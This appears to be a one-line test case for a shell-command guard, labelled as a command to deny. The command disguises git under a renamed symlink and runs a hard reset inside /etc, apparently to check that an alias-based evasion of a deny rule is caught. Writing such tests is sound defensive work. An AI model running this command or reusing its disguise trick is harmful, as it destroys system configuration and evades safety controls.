# want: deny
vnnv() { cd /etc; }; vnnv; { ln -s /usr/bin/git ./vofq; ./vofq reset --hard m3pv; }
